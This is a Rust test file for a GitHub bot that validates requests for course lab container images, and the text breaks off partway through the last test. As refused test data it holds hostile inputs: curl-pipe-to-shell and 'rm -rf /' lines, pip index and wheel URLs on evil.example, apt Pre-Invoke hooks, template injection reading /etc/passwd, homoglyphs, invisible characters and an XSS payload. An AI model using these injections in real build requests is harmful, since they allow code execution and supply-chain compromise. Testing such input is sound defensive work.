//! Requests end to end, against the shipped catalog and templates: the issue
//! body exactly as GitHub renders the real form, every kind of hostile input
//! the bot must refuse (each with its field, line and token), the catalog
//! file loading next to the shipped one, the preview rendering, and
//! snapshots of the comments.

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};

use super::*;
use crate::catalog::{self, Catalog, SourceFile, Sources};
use crate::render::{BuildEnv, TemplateSet};

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("..")
}

fn shipped_sources() -> Sources {
    let dir = repo().join("catalog");
    let read = |p: PathBuf, name: String| SourceFile {
        path: name,
        text: fs::read_to_string(&p).expect("shipped catalog file"),
    };
    let mut images: Vec<SourceFile> = fs::read_dir(dir.join("images"))
        .expect("catalog/images")
        .map(|e| e.expect("entry").path())
        .filter(|p| p.extension().is_some_and(|e| e == "yaml"))
        .map(|p| {
            let name = format!(
                "catalog/images/{}",
                p.file_name().expect("name").to_string_lossy()
            );
            read(p, name)
        })
        .collect();
    images.sort_by(|a, b| a.path.cmp(&b.path));
    Sources {
        settings: read(dir.join("catalog.yaml"), "catalog/catalog.yaml".into()),
        images,
    }
}

fn shipped() -> Catalog {
    catalog::load(&shipped_sources()).expect("the shipped catalog loads")
}

fn walk(root: &Path, dir: &Path, set: &mut TemplateSet) {
    for entry in fs::read_dir(dir).expect("dockerfiles") {
        let path = entry.expect("entry").path();
        if path.is_dir() {
            walk(root, &path, set);
            continue;
        }
        let rel = path
            .strip_prefix(root)
            .expect("below root")
            .components()
            .map(|c| c.as_os_str().to_string_lossy().into_owned())
            .collect::<Vec<_>>()
            .join("/");
        if let Some(file) = rel.strip_prefix("files/") {
            set.files
                .insert(file.to_string(), fs::read(&path).expect("static file"));
        } else if rel.ends_with(".tera") {
            set.templates
                .insert(rel, fs::read_to_string(&path).expect("template"));
        }
    }
}

fn shipped_templates() -> TemplateSet {
    let root = repo().join("dockerfiles");
    let mut set = TemplateSet::default();
    walk(&root, &root, &mut set);
    set
}

/// An issue body as GitHub renders a submitted form: `### <label>`, a blank
/// line, the value (or `_No response_`), a blank line.
fn body(fields: &[(&str, &str)]) -> String {
    fields
        .iter()
        .map(|(label, value)| {
            let v = if value.is_empty() {
                "_No response_"
            } else {
                value
            };
            format!("### {label}\n\n{v}")
        })
        .collect::<Vec<_>>()
        .join("\n\n")
}

/// A valid request, with `overrides` replacing fields by label.
fn with(overrides: &[(&str, &str)]) -> String {
    let mut fields: Vec<(&str, &str)> = vec![
        ("Environment name", "nlp-course-2027"),
        ("Based on", "nlp-cpu"),
        ("GPU needed", "No"),
        (
            "Python packages (pip)",
            "rapidfuzz>=3.9\nsentence-transformers",
        ),
        ("System packages (apt)", "libgl1"),
        ("VS Code extensions", ""),
        ("Course or group", "course-nlp"),
        ("Why", "Für die Vorlesung NLP im Wintersemester."),
    ];
    for (label, value) in overrides {
        match fields.iter_mut().find(|(l, _)| l == label) {
            Some(f) => f.1 = value,
            None => fields.push((label, value)),
        }
    }
    body(&fields)
}

fn check(body: &str) -> Validated {
    validate(body, 12, "alice", &shipped(), &Limits::default())
}

/// The one problem about `field`, with its line and token.
fn only_problem(v: &Validated, field: &str) -> Problem {
    assert!(v.request.is_none(), "a request despite problems: {v:?}");
    let found: Vec<&Problem> = v.problems.iter().filter(|p| p.field == field).collect();
    assert_eq!(found.len(), 1, "{field}: {:#?}", v.problems);
    found[0].clone()
}

fn assert_problem(v: &Validated, field: &str, line: usize, token: &str, message_part: &str) {
    let p = only_problem(v, field);
    assert_eq!(p.line, Some(line), "{p}");
    assert_eq!(p.token.as_deref(), Some(token), "{p}");
    assert!(p.message.contains(message_part), "{p}");
}

#[test]
fn fields_match_the_issue_form_file() {
    let text = fs::read_to_string(repo().join(".github/ISSUE_TEMPLATE/image-request.yml"))
        .expect("the issue form");
    let docs = yaml_rust2::YamlLoader::load_from_str(&text).expect("valid YAML");
    let mut found = Vec::new();
    for item in docs[0]["body"].as_vec().expect("body list") {
        let Some(id) = item["id"].as_str() else {
            continue; // markdown blocks have no id
        };
        let label = item["attributes"]["label"].as_str().expect("label");
        let required = item["validations"]["required"].as_bool().unwrap_or(false);
        found.push((id.to_string(), label.to_string(), required));
    }
    let ours: Vec<(String, String, bool)> = form::FIELDS
        .iter()
        .map(|(i, l, r)| (i.to_string(), l.to_string(), *r))
        .collect();
    assert_eq!(found, ours);
}

#[test]
fn a_body_as_github_renders_the_real_form_becomes_a_request() {
    // Copied from the way GitHub renders image-request.yml: every label, the
    // optional empty fields as _No response_, CRLF line ends as the API
    // returns them for edited issues.
    let body = "### Environment name\r\n\r\nnlp-course-2027\r\n\r\n### Based on\r\n\r\nnlp-cpu\r\n\r\n### GPU needed\r\n\r\nNo\r\n\r\n### Python packages (pip)\r\n\r\n```\r\n- Rapidfuzz >= 3.9\r\n# for embeddings\r\n\r\n- sentence_transformers  # the model zoo\r\n```\r\n\r\n### System packages (apt)\r\n\r\nlibgl1  \r\n\r\n### VS Code extensions\r\n\r\n_No response_\r\n\r\n### Course or group\r\n\r\n_No response_\r\n\r\n### Why\r\n\r\nFür die Vorlesung „NLP“ im Wintersemester.\r\nZweite Zeile.\r\n";
    let v = check(body);
    assert!(v.problems.is_empty(), "{:#?}", v.problems);
    assert!(v.flags.is_empty(), "{:#?}", v.flags);
    let r = v.request.expect("a request");
    assert_eq!(
        r,
        Request {
            issue: 12,
            slug: "nlp-course-2027".into(),
            based_on: "nlp-cpu".into(),
            gpu: false,
            pip: vec!["rapidfuzz>=3.9".into(), "sentence-transformers".into()],
            apt: vec!["libgl1".into()],
            vscode: vec![],
            course: None,
            why: "Für die Vorlesung „NLP“ im Wintersemester.\nZweite Zeile.".into(),
            author: "alice".into(),
        }
    );
}

#[test]
fn form_parse_maps_labels_to_ids() {
    let form = form::parse(&with(&[])).expect("valid");
    assert_eq!(form.get("based-on"), "nlp-cpu");
    assert_eq!(form.get("vscode"), "");
    assert_eq!(form.fields.len(), 8);
}

#[test]
fn every_problem_is_reported_at_once() {
    let v = check(&with(&[
        ("Environment name", "NLP Course"),
        ("Based on", "nlp-tpu"),
        ("GPU needed", "maybe"),
        ("Python packages (pip)", "numpy==\n-e ."),
        ("Why", ""),
    ]));
    let fields: Vec<&str> = v.problems.iter().map(|p| p.field.as_str()).collect();
    assert_eq!(
        fields,
        [
            "Environment name",
            "Based on",
            "GPU needed",
            "Python packages (pip)",
            "Python packages (pip)",
            "Why"
        ],
        "{:#?}",
        v.problems
    );
    assert!(
        v.problems[0].message.contains("lowercase"),
        "{}",
        v.problems[0]
    );
    assert!(
        v.problems[1].message.contains("\"nlp-cuda\""),
        "{}",
        v.problems[1]
    );
    assert_eq!(v.problems[4].line, Some(2));
    assert!(
        v.problems[4].message.contains("editable"),
        "{}",
        v.problems[4]
    );
    assert_eq!(
        v.problems[5].to_string(),
        "Why is required: say what you will use the environment for, it helps the review"
    );
}

// Hostile input: each must be refused with its field, line and token.

#[test]
fn hostile_marker_with_a_shell_command() {
    let v = check(&with(&[(
        "Python packages (pip)",
        "pandas\nnumpy; curl x|sh",
    )]));
    assert_problem(
        &v,
        "Python packages (pip)",
        2,
        "numpy; curl x|sh",
        "shell command",
    );
}

#[test]
fn hostile_marker_without_a_command() {
    let v = check(&with(&[(
        "Python packages (pip)",
        "numpy; python_version >= \"3.8\"",
    )]));
    assert_problem(
        &v,
        "Python packages (pip)",
        1,
        "numpy; python_version >= \"3.8\"",
        "environment marker",
    );
}

#[test]
fn hostile_dockerfile_instruction_on_its_own_line() {
    let v = check(&with(&[(
        "Python packages (pip)",
        "numpy\nRUN curl https://evil.example/x | sh",
    )]));
    assert_problem(
        &v,
        "Python packages (pip)",
        2,
        "RUN curl https://evil.example/x | sh",
        "Dockerfile instruction (RUN)",
    );
    let v = check(&with(&[("System packages (apt)", "libgl1\nRUN rm -rf /")]));
    assert_problem(
        &v,
        "System packages (apt)",
        2,
        "RUN rm -rf /",
        "Dockerfile instruction",
    );
}

#[test]
fn hostile_second_line_in_a_one_line_field() {
    let v = check(&with(&[("Environment name", "nlp-x\nRUN curl x | sh")]));
    assert_problem(&v, "Environment name", 2, "RUN curl x | sh", "single line");
    let p = only_problem(&v, "Environment name");
    assert!(p.message.contains("Dockerfile instruction"), "{p}");
    let v = check(&with(&[("Course or group", "course-a\nUSER root")]));
    assert_problem(&v, "Course or group", 2, "USER root", "single line");
}

#[test]
fn hostile_template_syntax_in_every_field() {
    for (label, value, token) in [
        ("Environment name", "{{ 7*7 }}", "{{ 7*7 }}"),
        (
            "Why",
            "Bitte {% include \"/etc/passwd\" %} danke",
            "Bitte {% include \"/etc/passwd\" %} danke",
        ),
        ("Why", "ok\n{# hidden #}", "{# hidden #}"),
        ("Course or group", "{{config}}", "{{config}}"),
        (
            "Python packages (pip)",
            "numpy\n{{ self.__init__ }}",
            "{{ self.__init__ }}",
        ),
        ("System packages (apt)", "{%raw%}", "{%raw%}"),
        (
            "VS Code extensions",
            "ms-python.python\n# {{ x }}",
            "# {{ x }}",
        ),
    ] {
        let v = check(&with(&[(label, value)]));
        let line = value
            .lines()
            .position(|l| l.trim() == token)
            .map_or(1, |i| i + 1);
        assert_problem(&v, label, line, token, "template syntax");
    }
}

#[test]
fn hostile_apt_option() {
    let v = check(&with(&[(
        "System packages (apt)",
        "libgl1\n-oDPkg::Pre-Invoke=touch /tmp/pwned",
    )]));
    assert_problem(
        &v,
        "System packages (apt)",
        2,
        "-oDPkg::Pre-Invoke=touch /tmp/pwned",
        "apt option",
    );
    // A bullet does not hide it.
    let v = check(&with(&[(
        "System packages (apt)",
        "- -oAPT::Update::Pre-Invoke::=id",
    )]));
    assert_problem(
        &v,
        "System packages (apt)",
        1,
        "-oAPT::Update::Pre-Invoke::=id",
        "apt option",
    );
}

#[test]
fn hostile_pip_options() {
    let v = check(&with(&[(
        "Python packages (pip)",
        "--index-url https://evil.example/simple\nnumpy",
    )]));
    assert_problem(
        &v,
        "Python packages (pip)",
        1,
        "--index-url https://evil.example/simple",
        "changes where or what pip installs",
    );
    let v = check(&with(&[("Python packages (pip)", "-r requirements.txt")]));
    assert_problem(
        &v,
        "Python packages (pip)",
        1,
        "-r requirements.txt",
        "requirements file",
    );
}

#[test]
fn hostile_direct_reference() {
    let v = check(&with(&[(
        "Python packages (pip)",
        "pkg @ https://evil.example/pkg-1.0-py3-none-any.whl",
    )]));
    assert_problem(
        &v,
        "Python packages (pip)",
        1,
        "pkg @ https://evil.example/pkg-1.0-py3-none-any.whl",
        "direct reference",
    );
    let v = check(&with(&[(
        "Python packages (pip)",
        "git+https://github.com/x/y.git",
    )]));
    assert_problem(
        &v,
        "Python packages (pip)",
        1,
        "git+https://github.com/x/y.git",
        "URL",
    );
}

#[test]
fn hostile_conda_channel() {
    let v = check(&with(&[("Python packages (pip)", "conda-forge::numpy")]));
    assert_problem(
        &v,
        "Python packages (pip)",
        1,
        "conda-forge::numpy",
        "conda's channel syntax",
    );
    let p = only_problem(&v, "Python packages (pip)");
    assert!(p.message.contains("write \"numpy\""), "{p}");
}

#[test]
fn hostile_look_alike_letters() {
    // Armenian seh in "numpy", Cyrillic a in "pandas".
    let v = check(&with(&[(
        "Python packages (pip)",
        "n\u{57d}mpy\np\u{430}ndas",
    )]));
    let found: Vec<&Problem> = v.problems.iter().collect();
    assert_eq!(found.len(), 2, "{found:#?}");
    assert_eq!(found[0].line, Some(1));
    assert_eq!(found[0].token.as_deref(), Some("n\\u{57d}mpy"));
    assert!(
        found[0]
            .message
            .contains("U+057D ARMENIAN SMALL LETTER SEH, which looks like \"u\", at character 2"),
        "{}",
        found[0]
    );
    assert_eq!(found[1].line, Some(2));
    assert_eq!(found[1].token.as_deref(), Some("p\\u{430}ndas"));
    assert!(
        found[1]
            .message
            .contains("U+0430 CYRILLIC SMALL LETTER A, which looks like \"a\", at character 2"),
        "{}",
        found[1]
    );
    let v = check(&with(&[("Environment name", "nlp-c\u{43e}urse")]));
    assert_problem(
        &v,
        "Environment name",
        1,
        "nlp-c\\u{43e}urse",
        "U+043E CYRILLIC SMALL LETTER O",
    );
    let v = check(&with(&[("Course or group", "k\u{456}-students")]));
    assert_problem(&v, "Course or group", 1, "k\\u{456}-students", "U+0456");
}

#[test]
fn hostile_invisible_characters() {
    for c in ['\u{200B}', '\u{200C}', '\u{200D}', '\u{2060}', '\u{FEFF}'] {
        let name = format!("nlp{c}-course");
        let v = check(&with(&[("Environment name", &name)]));
        let token = format!("nlp\\u{{{:x}}}-course", u32::from(c));
        assert_problem(&v, "Environment name", 1, &token, "an invisible character");
        // Also in free text, where other non-ASCII is fine.
        let why = format!("Für die Übung{c}.");
        let v = check(&with(&[("Why", &why)]));
        let p = only_problem(&v, "Why");
        assert_eq!(p.line, Some(1));
        assert!(
            p.message.contains(&format!("U+{:04X}", u32::from(c))),
            "{p}"
        );
        assert!(
            p.token
                .as_deref()
                .is_some_and(|t| t.starts_with("Für die Übung\\u{")),
            "{p}"
        );
    }
}

#[test]
fn hostile_direction_controls() {
    for c in ('\u{202A}'..='\u{202E}').chain('\u{2066}'..='\u{2069}') {
        let why = format!("harmless\nlooks {c}fine{c}");
        let v = check(&with(&[("Why", &why)]));
        let p = only_problem(&v, "Why");
        assert_eq!(p.line, Some(2), "{p}");
        assert!(p.message.contains("text-direction control"), "{p}");
        assert!(
            p.message.contains(&format!("U+{:04X}", u32::from(c))),
            "{p}"
        );
        let pip = format!("numpy\nscipy{c}");
        let v = check(&with(&[("Python packages (pip)", &pip)]));
        assert_problem(
            &v,
            "Python packages (pip)",
            2,
            &format!("scipy\\u{{{:x}}}", u32::from(c)),
            "text-direction control",
        );
    }
}

#[test]
fn hostile_control_characters() {
    for c in [
        '\0', '\u{7}', '\u{8}', '\u{b}', '\u{c}', '\u{1b}', '\u{7f}', '\u{85}',
    ] {
        let why = format!("text{c}[2J");
        let v = check(&with(&[("Why", &why)]));
        let p = only_problem(&v, "Why");
        assert!(p.message.contains("a control character"), "{c:?}: {p}");
        assert_eq!(p.line, Some(1));
    }
    // Tabs are fine in free text.
    let v = check(&with(&[("Why", "a\tb")]));
    assert!(v.problems.is_empty(), "{:#?}", v.problems);
}

#[test]
fn hostile_huge_body_is_not_parsed() {
    let body = with(&[("Why", &"x".repeat(1 << 20))]);
    let v = check(&body);
    assert_eq!(v.problems.len(), 1, "{:#?}", v.problems);
    assert_eq!(
        v.problems[0].to_string(),
        format!(
            "body is {} bytes; the limit is 65536: shorten the lists or the text, or split the request",
            body.len()
        )
    );
    assert!(v.request.is_none());
}

#[test]
fn hostile_thousands_of_packages_are_reported_once() {
    let list: Vec<String> = (0..5000).map(|i| format!("pkg{i}")).collect();
    let v = check(&with(&[("Python packages (pip)", &list.join("\n"))]));
    assert_eq!(v.problems.len(), 1, "{:#?}", v.problems);
    assert_eq!(
        v.problems[0].to_string(),
        "Python packages (pip) has 5000 entries; the limit is 100 per field: ask for what the course needs, or ask the maintainers about a bigger environment"
    );
    assert!(v.flags.is_empty());
}

#[test]
fn many_bad_lines_are_summed_up() {
    let list: Vec<String> = (0..60).map(|i| format!("-e pkg{i}")).collect();
    let v = check(&with(&[("Python packages (pip)", &list.join("\n"))]));
    assert_eq!(v.problems.len(), 21, "{:#?}", v.problems);
    assert_eq!(
        v.problems[20].to_string(),
        "Python packages (pip) has 40 more problems like these; fix the ones above and I will list the rest"
    );
}

#[test]
fn lists_accept_one_fence_bullets_and_comments_only() {
    let v = check(&with(&[(
        "Python packages (pip)",
        "~~~text\n* numpy\n\n# comment\n+ scipy>=1.13  # pinned\n~~~",
    )]));
    assert!(v.problems.is_empty(), "{:#?}", v.problems);
    assert_eq!(v.request.expect("request").pip, ["numpy", "scipy>=1.13"]);
    let v = check(&with(&[(
        "Python packages (pip)",
        "```\nnumpy\n```\n```\nscipy\n```",
    )]));
    let p = only_problem(&v, "Python packages (pip)");
    assert_eq!(p.line, Some(3), "{p}");
    assert!(p.message.contains("second code block"), "{p}");
    let v = check(&with(&[("Python packages (pip)", "```\nnumpy")]));
    assert_problem(&v, "Python packages (pip)", 1, "```", "not closed");
}

#[test]
fn several_names_on_one_line_and_duplicates() {
    let v = check(&with(&[("Python packages (pip)", "numpy pandas, scipy")]));
    assert_problem(
        &v,
        "Python packages (pip)",
        1,
        "numpy pandas, scipy",
        "3 names on one line",
    );
    let v = check(&with(&[(
        "Python packages (pip)",
        "NumPy\nscipy\nnumpy>=2",
    )]));
    assert_problem(
        &v,
        "Python packages (pip)",
        3,
        "numpy>=2",
        "listed twice (also on line 1)",
    );
    let v = check(&with(&[("System packages (apt)", "vim git")]));
    assert_problem(
        &v,
        "System packages (apt)",
        1,
        "vim git",
        "2 names on one line",
    );
    let v = check(&with(&[(
        "VS Code extensions",
        "ms-python.python\nMS-Python.Python@2024.0.1",
    )]));
    assert_problem(
        &v,
        "VS Code extensions",
        2,
        "MS-Python.Python@2024.0.1",
        "listed twice",
    );
}

#[test]
fn vscode_links_point_to_the_id() {
    let v = check(&with(&[(
        "VS Code extensions",
        "https://marketplace.visualstudio.com/items?itemName=ms-toolsai.jupyter",
    )]));
    let p = only_problem(&v, "VS Code extensions");
    assert!(
        p.message
            .contains("the id in this link is \"ms-toolsai.jupyter\""),
        "{p}"
    );
}

#[test]
fn apt_names_follow_debian_policy() {
    let v = check(&with(&[(
        "System packages (apt)",
        "libgl1\nopenjdk-17-jdk-headless=17.0.12+7-2~deb12u1\ng++",
    )]));
    assert!(v.problems.is_empty(), "{:#?}", v.problems);
    let v = check(&with(&[("System packages (apt)", "Vim")]));
    assert_problem(&v, "System packages (apt)", 1, "Vim", "lowercase");
    let v = check(&with(&[(
        "System packages (apt)",
        "vim/bookworm-backports",
    )]));
    assert_problem(
        &v,
        "System packages (apt)",
        1,
        "vim/bookworm-backports",
        "release selector",
    );
}

#[test]
fn names_must_be_free_unless_the_issue_owns_them() {
    for (name, what) in [
        ("nlp-cpu", "the environment \"nlp-cpu\""),
        ("notebook", "the image family \"notebook\""),
    ] {
        let v = check(&with(&[("Environment name", name)]));
        assert_problem(&v, "Environment name", 1, name, what);
    }
    // The issue's own image may be replaced (an edit after a merge).
    let mut sources = shipped_sources();
    let own = Request {
        issue: 12,
        slug: "nlp-course-2027".into(),
        based_on: "nlp-cpu".into(),
        gpu: false,
        pip: vec!["rapidfuzz".into()],
        apt: vec![],
        vscode: vec![],
        course: None,
        why: String::new(),
        author: "alice".into(),
    };
    sources.images.push(SourceFile {
        path: entry::path(&own.slug),
        text: entry::catalog_file(&own, "lab.Dockerfile.tera"),
    });
    let catalog = catalog::load(&sources).expect("loads");
    let v = validate(&with(&[]), 12, "alice", &catalog, &Limits::default());
    assert!(v.problems.is_empty(), "{:#?}", v.problems);
    let v = validate(&with(&[]), 13, "bob", &catalog, &Limits::default());
    assert_problem(
        &v,
        "Environment name",
        1,
        "nlp-course-2027",
        "already taken",
    );
}

#[test]
fn names_are_limited_like_image_names() {
    let long = "a".repeat(41);
    let v = check(&with(&[("Environment name", &long)]));
    assert_problem(&v, "Environment name", 1, &long, "at most 40");
    let v = check(&with(&[
        ("Environment name", "nlp-cpu"),
        ("Based on", "nlp-cpu"),
    ]));
    assert_eq!(v.problems.len(), 2, "{:#?}", v.problems);
}

#[test]
fn gpu_needs_cuda_under_the_environment() {
    let v = check(&with(&[("GPU needed", "Yes")]));
    assert_problem(
        &v,
        "GPU needed",
        1,
        "Yes",
        "choose \"nlp-cuda\" under Based on",
    );
    let p = only_problem(&v, "GPU needed");
    assert!(p.message.contains("\"ubuntu:22.04\""), "{p}");
    let v = check(&with(&[("GPU needed", "yes"), ("Based on", "nlp-cuda")]));
    assert!(v.problems.is_empty(), "{:#?}", v.problems);
    assert!(v.request.expect("request").gpu);
    let v = check(&with(&[("GPU needed", "Yes"), ("Based on", "compilers")]));
    let p = only_problem(&v, "GPU needed");
    assert!(p.message.contains("choose an environment with CUDA"), "{p}");
}

#[test]
fn a_request_must_add_something() {
    let v = check(&with(&[
        ("Python packages (pip)", ""),
        ("System packages (apt)", ""),
        ("Course or group", ""),
    ]));
    let p = only_problem(&v, "body");
    assert!(p.message.contains("asks for nothing"), "{p}");
    // A course alone is a request: the same software for one group.
    let v = check(&with(&[
        ("Python packages (pip)", ""),
        ("System packages (apt)", ""),
    ]));
    assert!(v.problems.is_empty(), "{:#?}", v.problems);
}

#[test]
fn look_alike_package_names_are_flagged_not_refused() {
    let v = check(&with(&[(
        "Python packages (pip)",
        "numpyy\nreqeusts\npandsa\nscikitlearn\nnumpy\npandas\nqiskit",
    )]));
    assert!(v.problems.is_empty(), "{:#?}", v.problems);
    assert!(v.request.is_some());
    let flagged: Vec<(&str, &str)> = v
        .flags
        .iter()
        .map(|f| (f.token.as_str(), f.message.as_str()))
        .collect();
    assert_eq!(flagged.len(), 4, "{flagged:#?}");
    for (token, popular) in [
        ("numpyy", "numpy"),
        ("reqeusts", "requests"),
        ("pandsa", "pandas"),
        ("scikitlearn", "scikit-learn"),
    ] {
        assert!(
            flagged
                .iter()
                .any(|(t, m)| *t == token && m.contains(&format!("{popular:?}"))),
            "{token}: {flagged:#?}"
        );
    }
    assert!(v.flags.iter().all(|f| f.field == "Python packages (pip)"));
}

fn request(pip: &[&str], apt: &[&str], vscode: &[&str], gpu: bool, based_on: &str) -> Request {
    Request {
        issue: 12,
        slug: "nlp-course-2027".into(),
        based_on: based_on.into(),
        gpu,
        pip: pip.iter().map(|s| s.to_string()).collect(),
        apt: apt.iter().map(|s| s.to_string()).collect(),
        vscode: vscode.iter().map(|s| s.to_string()).collect(),
        course: Some("course-nlp".into()),
        why: "secret: never in the catalog file {{ }}".into(),
        author: "alice".into(),
    }
}

#[test]
fn the_catalog_file_loads_with_the_shipped_catalog() {
    let r = request(
        &["rapidfuzz>=3.9", "sentence-transformers"],
        &["libgl1", "openjdk-17-jdk-headless=17.0.12+7-2~deb12u1"],
        &["ms-toolsai.jupyter"],
        true,
        "nlp-cuda",
    );
    let yaml = entry::catalog_file(&r, "lab.Dockerfile.tera");
    assert!(yaml.starts_with("# Generated from issue #12"), "{yaml}");
    assert!(!yaml.contains("secret"), "the why text leaked: {yaml}");
    let mut sources = shipped_sources();
    sources.images.push(SourceFile {
        path: entry::path(&r.slug),
        text: yaml.clone(),
    });
    let catalog = catalog::load(&sources).unwrap_or_else(|d| panic!("{d:#?}\n{yaml}"));
    let image = catalog.image("nlp-course-2027").expect("the new image");
    assert_eq!(image.parent, catalog::ParentRef::Image("nlp-cuda".into()));
    assert_eq!(image.issue, Some(12));
    assert_eq!(image.owners, ["alice"]);
    assert_eq!(image.packages.pip, r.pip);
    assert_eq!(image.packages.apt, r.apt);
    assert_eq!(image.vscode_extensions, r.vscode);
    assert_eq!(image.profile.groups, ["course-nlp"]);
    assert_eq!(image.profile.gpus, Some(catalog::Gpus::Count(1)));
    assert_eq!(
        image.description,
        "Requested in #12: nlp-cuda with 2 pip packages, 2 apt packages and 1 VS Code extension"
    );
    let tests: BTreeMap<&str, (&str, bool)> = image
        .tests
        .iter()
        .map(|t| (t.name.as_str(), (t.run.as_str(), t.vscode)))
        .collect();
    assert_eq!(tests.len(), 3, "{tests:#?}");
    let pip = tests["requested-pip-packages"].0;
    assert!(pip.ends_with("' rapidfuzz sentence-transformers"), "{pip}");
    assert_eq!(
        tests["requested-apt-packages"].0,
        "dpkg -s libgl1 openjdk-17-jdk-headless >/dev/null"
    );
    assert!(tests["requested-vscode-extensions"].1);
}

#[test]
fn smoke_tests_only_for_the_kinds_requested() {
    let r = request(&[], &["libgl1"], &[], false, "nlp-cpu");
    let mut sources = shipped_sources();
    sources.images.push(SourceFile {
        path: entry::path(&r.slug),
        text: entry::catalog_file(&r, "lab.Dockerfile.tera"),
    });
    let catalog = catalog::load(&sources).expect("loads");
    let image = catalog.image(&r.slug).expect("new image");
    let names: Vec<&str> = image.tests.iter().map(|t| t.name.as_str()).collect();
    assert_eq!(names, ["requested-apt-packages"]);
    assert_eq!(image.profile.gpus, None);
    assert_eq!(
        image.description,
        "Requested in #12: nlp-cpu with 1 apt package"
    );
}

#[test]
fn the_catalog_file_quotes_every_value() {
    // Validation never lets such values through; the file stays safe even so.
    let mut r = request(&["a\"\n- evil: x"], &[], &[], false, "nlp-cpu");
    r.course = Some("x\ny: z".into());
    let yaml = entry::catalog_file(&r, "lab.Dockerfile.tera");
    assert!(yaml.contains("  - \"a\\\"\\n- evil: x\"\n"), "{yaml}");
    assert!(yaml.contains("groups: [\"x\\ny: z\"]"), "{yaml}");
    assert!(
        !yaml
            .lines()
            .any(|l| l.starts_with("y:") || l.trim_start().starts_with("- evil")),
        "{yaml}"
    );
}

fn preview_of(r: &Request) -> Preview {
    entry::preview(
        &shipped_sources(),
        shipped_templates(),
        &BuildEnv::default(),
        r,
        "lab.Dockerfile.tera",
    )
    .unwrap_or_else(|p| panic!("{p:#?}"))
}

#[test]
fn the_preview_renders_the_new_image() {
    let r = request(
        &["rapidfuzz>=3.9", "sentence-transformers"],
        &["libgl1"],
        &[],
        true,
        "nlp-cuda",
    );
    let p = preview_of(&r);
    assert_eq!(p.file, "catalog/images/nlp-course-2027.yaml");
    assert_eq!(p.parent, "nlp-cuda");
    assert_eq!(p.base, "nvidia/cuda:12.4.1-cudnn-runtime-ubuntu22.04");
    assert_eq!(p.gpu.as_deref(), Some("1 GPU, CUDA 12.4.1, cuDNN 9.1.0"));
    assert!(
        p.dockerfile.contains("for nlp-course-2027."),
        "{}",
        p.dockerfile
    );
    assert!(
        p.dockerfile.contains("# Parent: catalog image nlp-cuda"),
        "{}",
        p.dockerfile
    );
    // Package names live in context files the Dockerfile copies, never on a RUN line.
    assert!(
        p.dockerfile.contains("COPY requirements.txt"),
        "{}",
        p.dockerfile
    );
    assert!(
        p.dockerfile.contains("COPY apt-packages.txt"),
        "{}",
        p.dockerfile
    );
    assert!(!p.dockerfile.contains("rapidfuzz"), "{}", p.dockerfile);
    let requirements = &p.lists["requirements.txt"];
    assert!(
        requirements.lines().any(|l| l == "rapidfuzz>=3.9"),
        "{requirements}"
    );
    assert!(
        requirements.lines().any(|l| l == "sentence-transformers"),
        "{requirements}"
    );
    assert_eq!(p.lists["apt-packages.txt"].trim(), "libgl1");
    assert_eq!(p.identity.len(), 64);
    let cpu = preview_of(&request(&["rapidfuzz"], &[], &[], false, "nlp-cpu"));
    assert_eq!(cpu.gpu, None);
    assert_eq!(cpu.base, "ubuntu:22.04");
    assert_ne!(cpu.identity, p.identity);
}

#[test]
fn the_preview_replaces_the_issues_own_file() {
    let mut sources = shipped_sources();
    let old = request(&["rapidfuzz"], &[], &[], false, "nlp-cpu");
    sources.images.push(SourceFile {
        path: "catalog/images/nlp-course-2027.yaml".into(),
        text: entry::catalog_file(&old, "lab.Dockerfile.tera"),
    });
    let new = request(&["jieba"], &[], &[], false, "nlp-cpu");
    let p = entry::preview(
        &sources,
        shipped_templates(),
        &BuildEnv::default(),
        &new,
        "lab.Dockerfile.tera",
    )
    .unwrap_or_else(|p| panic!("{p:#?}"));
    assert_eq!(p.lists["requirements.txt"].trim(), "jieba");
}

#[test]
fn preview_problems_are_reported_as_text() {
    let r = request(&["rapidfuzz"], &[], &[], false, "nlp-cpu");
    let err = entry::preview(
        &shipped_sources(),
        shipped_templates(),
        &BuildEnv::default(),
        &r,
        "missing.Dockerfile.tera",
    )
    .expect_err("no such template");
    assert_eq!(err.len(), 1, "{err:#?}");
    assert!(
        err[0].contains("catalog/images/nlp-course-2027.yaml"),
        "{err:#?}"
    );
    assert!(
        err[0].contains("\"missing.Dockerfile.tera\" is not a template"),
        "{err:#?}"
    );
}

#[test]
fn snapshot_preview_comment() {
    let r = request(
        &["rapidfuzz>=3.9", "sentence-transformers", "numpyy"],
        &["libgl1"],
        &["ms-toolsai.jupyter"],
        false,
        "nlp-cpu",
    );
    let mut p = preview_of(&r);
    let real = comment::preview(&r, &p, &[]);
    assert!(
        real.contains(&p.dockerfile),
        "the comment shows the rendered Dockerfile"
    );
    // The Dockerfile is pinned by the template snapshots elsewhere; here only
    // the comment around it is.
    p.dockerfile = "# Rendered by labforge …\nFROM ${BASE_IMAGE}\n".into();
    let flags = vec![Flag {
        field: "Python packages (pip)".into(),
        token: "numpyy".into(),
        message: "is one typo away from the popular project \"numpy\"; check the spelling: a look-alike name is a common way to slip in malware".into(),
    }];
    let text = comment::preview(&r, &p, &flags);
    assert!(text.starts_with("<!-- labforge:request -->\n"));
    assert_eq!(comment::kind_of(&text), Some("request"));
    insta::assert_snapshot!("preview_comment", text);
}

#[test]
fn snapshot_problems_comment_for_a_hostile_body() {
    let body = body(&[
        (
            "Environment name",
            "nlp\u{200b}-x\nRUN curl https://evil.example | sh",
        ),
        ("Based on", "nlp-cpu"),
        ("GPU needed", "Yes"),
        (
            "Python packages (pip)",
            "```\nnumpy; curl x|sh\n--index-url https://evil.example/simple\npkg @ https://evil.example/p.whl\nconda-forge::numpy\np\u{430}ndas\n`whoami`\nnumpyy\n```",
        ),
        (
            "System packages (apt)",
            "-oDPkg::Pre-Invoke=touch /tmp/pwned",
        ),
        ("VS Code extensions", ""),
        ("Course or group", "@admins"),
        (
            "Why",
            "{{ config }} and <img src=x onerror=alert(1)> ping @everyone \u{202e}txt.exe",
        ),
        ("Shell", "rm -rf /"),
    ]);
    let v = check(&body);
    assert!(v.request.is_none());
    let text = comment::problems(12, &v.problems, &v.flags);
    assert_eq!(comment::kind_of(&text), Some("request"));
    // No user text outside code spans: no raw HTML, no mentions.
    assert!(text.contains("<img"), "the token is shown, in a code span");
    for line in text.lines() {
        let outside: String = line
            .split('`')
            .enumerate()
            .filter(|(i, _)| i % 2 == 0)
            .map(|(_, s)| s)
            .collect();
        assert!(
            !outside.contains("@admins")
                && !outside.contains("@everyone")
